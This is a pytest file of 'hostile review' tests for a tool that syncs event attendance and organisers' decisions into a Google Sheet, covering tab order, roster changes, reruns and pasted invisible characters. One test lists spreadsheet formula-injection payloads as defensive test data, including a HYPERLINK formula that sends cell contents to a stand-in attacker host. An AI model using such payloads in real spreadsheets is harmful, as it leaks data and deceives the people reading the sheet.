"""Hostile review 25a: the Google Sheet as organisers see and edit it, through the real gspread
client against the stateful fake (tests/fakes/sheets.py) and ``vc-sync sync`` runs in sequence.

Each test is what a demanding organiser expects. Findings fixed on this branch pass; the ones
left as a judgement call for the lead are strict xfails whose reason starts with "finding:".
"""

from __future__ import annotations

import pytest
from click.testing import CliRunner

from tests.organisers import SheetSurface
from tests.test_organiser_edits import S1, change_log
from tests.test_review_loop import BAMBANG, review_rows, saved
from vc_sync.cli import cli

BAMBANG_ROW = "R002;S1;DPMPTSP Kabupaten Sleman;Drs. Bambang Hadi, M.Si.;;0812-3456-7890;;participant\n"


@pytest.fixture
def surface(programme, sheets):
    return SheetSurface(programme, sheets)


def sync(surface, session: str = "S1"):
    return CliRunner().invoke(cli, ["sync", "--config", str(surface.programme.config), "--session", session])


def tab_order(surface) -> list[str]:
    return [t.title for t in sorted(surface.fake.tabs, key=lambda t: t.index)]


def move_tab(surface, title: str, index: int) -> None:
    """An organiser drags a tab to another place in the tab bar."""
    sid = surface.fake.tab(title).sheet_id
    surface.fake.edit(
        {"updateSheetProperties": {"properties": {"sheetId": sid, "index": index}, "fields": "index"}}
    )


def assign(surface, key: str, value) -> None:
    surface.type("Review", surface.find("Review", key)[0], surface.find("Review", "Assign")[1], value)


# --- tabs ----------------------------------------------------------------------------------------


def test_a_new_session_tab_goes_beside_its_sibling_after_organisers_moved_review_first(surface):
    """The organisers dragged Review to the front (they work from it). Syncing S2 for the first
    time adds 'Session S2' beside 'Session S1', not in front of everything."""
    surface.sync()
    move_tab(surface, "Review", 0)
    assert tab_order(surface) == ["Review", "Summary", "About", S1, "Choices"]
    surface.sync(session="S2")
    assert tab_order(surface) == ["Review", "Summary", "About", S1, "Session S2", "Choices"]


def test_tabs_the_organisers_reordered_stay_where_they_put_them(surface):
    """Guard: a sync never drags the organisers' tab order back."""
    surface.sync()
    move_tab(surface, "About", 3)
    before = tab_order(surface)
    change_log(surface.programme)
    surface.sync()
    assert tab_order(surface) == before


# --- the Review decision, as organisers type it ----------------------------------------------------


@pytest.mark.parametrize("typed", ["dpmptsp kabupaten sleman", "DPMPTSP KABUPATEN SLEMAN"])
def test_an_agency_typed_in_another_case_is_a_pick(surface, typed):
    """An invitee's name is accepted in any case ('drs. bambang hadi, M.Si.'); an agency typed
    the same way is the same decision, not 'not on the list'."""
    surface.sync()
    galaxy = review_rows(surface)[0]["Key"]
    assign(surface, galaxy, typed)
    output = surface.sync()
    assert "names no invitee" not in output
    assert saved(surface.programme) == [(galaxy.split("/")[1], "DPMPTSP Kabupaten Sleman", "S1", "pick")]


@pytest.mark.parametrize("typed", ["Diabaikan", " diabaikan ", "IGNORED", "Abaikan"])
def test_the_word_the_sheet_shows_for_ignored_is_an_ignore_pick(surface, typed):
    """The sheet itself calls a set-aside row 'Diabaikan' / 'Ignored' (status and review state);
    an organiser who types that word into Tetapkan means ignore."""
    surface.sync()
    galaxy = review_rows(surface)[0]["Key"]
    assign(surface, galaxy, typed)
    surface.sync()
    assert saved(surface.programme) == [(galaxy.split("/")[1], "ignore", "S1", "pick")]
    assert surface.value(S1, galaxy.split("/")[1], "Status") == "Ignored"


def test_an_ignore_and_another_pick_on_the_same_person_never_ignore_the_person_picked(surface):
    """Settling the same Galaxy twice in conflicting ways: Bambang on Review, 'abaikan' in the
    session tab's Override of the same row. The first pick stands, with a warning; then, with
    nobody touching anything, a second sync must not ignore Bambang's own connection (his phone,
    verified by its number): nobody decided anything about it."""
    surface.sync()
    galaxy = review_rows(surface)[0]["Key"]
    conn = galaxy.split("/")[1]
    phone = surface.value(S1, "i-R002", "Connections")
    assign(surface, galaxy, BAMBANG)
    surface.type(S1, surface.find(S1, conn)[0], surface.find(S1, "Override")[1], "abaikan")
    output = surface.sync()
    assert "the first pick stands" in output
    surface.sync()
    assert surface.value(S1, "i-R002", "Status") == "Present"
    assert phone not in [p for p, *_ in saved(surface.programme)]
    assert saved(surface.programme) == [(conn, "R002", "S1", "pick")]


# --- a roster change between syncs -----------------------------------------------------------------


def test_a_pick_whose_invitee_left_the_roster_blocks_no_sync_and_can_be_undone(surface):
    """Galaxy was settled as Bambang; the secretariat then drops Bambang from the roster (or
    fixes his name in a roster without ids, which changes his derived id). Every sync after that
    must still run (the pick was the tool's record, not a line someone wrote wrong), the Galaxy's
    Review row says why the pick no longer applies, and the organisers settle it again."""
    surface.sync()
    galaxy = review_rows(surface)[0]["Key"]
    conn = galaxy.split("/")[1]
    assign(surface, galaxy, BAMBANG)
    surface.sync()
    assert saved(surface.programme) == [(conn, "R002", "S1", "pick")]
    surface.programme.edit("roster.csv", BAMBANG_ROW, "")
    for session in ("S1", "S2"):
        result = sync(surface, session)
        assert result.exit_code == 0, result.output
    (row,) = [r for r in review_rows(surface) if r["Key"] == galaxy]
    assert row["Review state"].startswith("Open"), row
    assert "R002" not in str(surface.value(S1, conn, "Invitee"))
    assign(surface, galaxy, "abaikan")
    assert sync(surface).exit_code == 0
    assert saved(surface.programme) == [(conn, "ignore", "S1", "pick")]
    assert surface.value(S1, conn, "Status") == "Ignored"
    keys = surface.keys(S1)
    assert len(keys) == len(set(keys))


def test_a_hand_written_line_naming_no_invitee_is_still_bad_input(surface):
    """Guard for the fix above: a line written by hand (no source) that names no invitee stays
    an error naming the file and line, exit 2, nothing written."""
    surface.sync()
    (surface.programme.root / "overrides.csv").write_text(
        "participant,assign,session,source,note\np-47c8a696ad,R999,S1,,\n", encoding="utf-8"
    )
    surface.fake.requests.clear()
    result = sync(surface)
    assert result.exit_code == 2
    assert "overrides.csv: line 2" in result.output and "R999" in result.output
    assert surface.fake.value_writes() == []


def test_an_invitee_taken_off_the_roster_leaves_each_connection_on_one_row(surface):
    surface.sync()
    andi = "R001;S1;DPMPTSP Kabupaten Sleman;Andi Kurniawan;andi.k@slemankab.go.id;;Andy;participant\n"
    surface.programme.edit("roster.csv", andi, "")
    surface.sync()
    _h, col = surface.find(S1, "Connections")
    conns = [
        c.strip()
        for (r, cc), v in surface.cells(S1).items()
        if cc == col and r != _h
        for c in str(v).split(";")
    ]
    assert len(conns) == len(set(conns)), conns
    assert "i-R001" not in surface.keys(S1) or surface.value(S1, "i-R001", "Status") != "Present"


@pytest.mark.parametrize("deleted", ["the row", "the tab"])
def test_deleting_the_review_row_of_a_pick_undoes_nothing(surface, deleted):
    """The organisers tidy up: they delete the settled rows of the Review tab (or the whole tab).
    The README: 'A row you deleted undoes nothing (its pick stays recorded)'. The session tab's
    row of the person credited (an empty Override, the pick made on Review) is no clearing."""
    surface.sync()
    galaxy = review_rows(surface)[0]["Key"]
    conn = galaxy.split("/")[1]
    assign(surface, galaxy, BAMBANG)
    surface.sync()
    assert saved(surface.programme) == [(conn, "R002", "S1", "pick")]
    if deleted == "the row":
        surface.delete_rows("Review", surface.find("Review", galaxy)[0])
    else:
        surface.fake.edit({"deleteSheet": {"sheetId": surface.fake.tab("Review").sheet_id}})
    surface.sync()
    surface.sync()
    assert saved(surface.programme) == [(conn, "R002", "S1", "pick")]
    assert conn not in surface.keys(S1)
    (row,) = [r for r in review_rows(surface) if r["Key"] == galaxy]
    assert row["Review state"] == f"Settled: {BAMBANG}"
    # and it can still be undone there, where it is shown
    assign(surface, galaxy, "abaikan")
    surface.sync()
    assert saved(surface.programme) == [(conn, "ignore", "S1", "pick")]


@pytest.mark.parametrize("deleted", ["the row", "the tab"])
def test_deleting_the_row_of_a_session_tab_pick_undoes_nothing(surface, deleted):
    surface.sync()
    conn = review_rows(surface)[0]["Key"].split("/")[1]
    surface.type(S1, surface.find(S1, conn)[0], surface.find(S1, "Override")[1], BAMBANG)
    surface.sync()
    assert saved(surface.programme) == [(conn, "R002", "S1", "pick")]
    if deleted == "the row":
        surface.delete_rows(S1, surface.find(S1, "i-R002")[0])
    else:
        surface.fake.edit({"deleteSheet": {"sheetId": surface.fake.tab(S1).sheet_id}})
    surface.sync()
    surface.sync()
    assert saved(surface.programme) == [(conn, "R002", "S1", "pick")]
    assert conn not in surface.keys(S1)


# --- organisers' own values in cells of ours -------------------------------------------------------


def test_an_email_typed_into_an_empty_cell_of_ours_is_not_silently_erased(surface):
    surface.sync()
    r = surface.find(S1, "i-R002")[0]
    email = surface.find(S1, "Email")[1]
    assert (r, email) not in surface.cells(S1)  # the roster has no e-mail for Bambang
    surface.type(S1, r, email, "bambang.hadi@slemankab.go.id")
    output = surface.sync()
    kept = surface.cells(S1).get((r, email)) == "bambang.hadi@slemankab.go.id"
    assert kept or f"{S1}: F{r + 1}" in output


# --- reruns ----------------------------------------------------------------------------------------


def test_a_rerun_after_the_values_write_failed_duplicates_nothing(surface):
    """Guard: the structural batch (the new S2 tab, anchors) lands, the values write fails every
    attempt; the rerun writes S2 once, every key once."""
    surface.sync()
    surface.programme.edit("config.toml", "max_attempts = 4", "max_attempts = 2")  # fail soon
    surface.fake.before_values = lambda: None
    assert sync(surface, "S2").exit_code != 0
    surface.fake.before_values = None
    assert sync(surface, "S2").exit_code == 0
    for title in ("Summary", S1, "Session S2", "Review", "Choices"):
        keys = surface.keys(title)
        assert len(keys) == len(set(keys)), title
    assert len([k for k in surface.keys("Review") if k.startswith("S2/")]) == 2


def test_a_sorted_review_a_filter_and_hidden_rows_duplicate_nothing(surface):
    """Guard: Review sorted by first join (newest first), a filter on the session tab and two
    rows hidden; a pick on the sorted Review is applied and every key stays once."""
    surface.sync("--due", session=None)
    head, join = surface.find("Review", "First join")
    surface.sort("Review", head + 1, join, reverse=True)
    sid = surface.fake.tab(S1).sheet_id
    surface.fake.edit({"setBasicFilter": {"filter": {"range": {"sheetId": sid, "startRowIndex": 0}}}})
    surface.fake.edit(
        {
            "updateDimensionProperties": {
                "range": {"sheetId": sid, "dimension": "ROWS", "startIndex": 2, "endIndex": 4},
                "properties": {"hiddenByUser": True},
                "fields": "hiddenByUser",
            }
        }
    )
    first = review_rows(surface)[0]["Key"]
    assign(surface, first, "abaikan")
    change_log(surface.programme)
    surface.sync("--due", session=None)
    surface.sync()
    session, conn = first.split("/")
    assert saved(surface.programme) == [(conn, "ignore", session, "pick")]
    for title in ("Summary", S1, "Session S2", "Review"):
        keys = surface.keys(title)
        assert len(keys) == len(set(keys)), title


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "+62 812 =1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "Budi\t=1+1",
        "\u202eosotnaS iduB",
        "'=1+1",
    ],
)
def test_a_hostile_display_name_is_written_as_text_only(surface, name):
    """Guard: every values write is RAW, and the name lands as text, never a formula (control
    characters such as a bidi override shown as escapes, as ``terminal.in_a_cell`` decides)."""
    from vc_sync.terminal import in_a_cell

    quoted = '"' + name.replace('"', '""') + '"'
    surface.programme.edit(
        "s1.csv", "Galaxy A51,,04/14/2020 09:12:00 AM", quoted + ",,04/14/2020 09:12:00 AM"
    )
    surface.sync()
    assert {w["valueInputOption"] for w in surface.fake.value_writes()} == {"RAW"}
    for title in (S1, "Review"):
        tab = surface.fake.tab(title)
        assert not tab.formulas
        assert in_a_cell(name) in tab.cells.values(), title


def test_a_deleted_choices_tab_leaves_no_dead_dropdown_on_another_sessions_tab(surface):
    """An organiser unhides Pilihan / Choices and deletes it. The next sync (of S1) makes it
    again; the Override dropdowns of every session tab (S2's too, not synced in this run) must
    offer the new list, not '#REF!' (Sheets turns a reference to a deleted tab into #REF!)."""
    surface.sync("--due", session=None)
    surface.fake.edit({"deleteSheet": {"sheetId": surface.fake.tab("Choices").sheet_id}})
    surface.sync()
    assert "Choices" in surface.titles()
    s2 = surface.programme.root / "s2.csv"  # and S2's own next sync, with a newcomer, mends nothing
    s2.write_text(s2.read_text() + "Tamu Baru,,04/14/2020 01:00:00 PM,04/14/2020 03:00:00 PM,120,Yes,\n")
    surface.sync(session="S2")
    for title in (S1, "Session S2"):
        sources = [
            v["userEnteredValue"]
            for rule in surface.fake.tab(title).validations
            for v in rule["rule"]["condition"]["values"]
        ]
        assert sources and all("#REF!" not in s for s in sources), (title, sources)
        assert "'Choices'!" in sources[-1], (title, sources)


@pytest.mark.parametrize(
    "typed",
    ["abaikan\u200b", "\u200eDrs. Bambang Hadi, M.Si. · DPMPTSP Kabupaten Sleman\u200f", "\ufeffabaikan"],
)
def test_a_pick_pasted_from_a_chat_with_invisible_marks_is_read(surface, typed):
    """A decision copied from the WhatsApp group carries invisible marks (zero-width space,
    left-to-right and right-to-left marks, a BOM): what the organiser sees is what counts."""
    surface.sync()
    galaxy = review_rows(surface)[0]["Key"]
    assign(surface, galaxy, typed)
    output = surface.sync()
    assert "names no invitee" not in output
    want = "ignore" if "abaikan" in typed else "R002"
    assert saved(surface.programme) == [(galaxy.split("/")[1], want, "S1", "pick")]
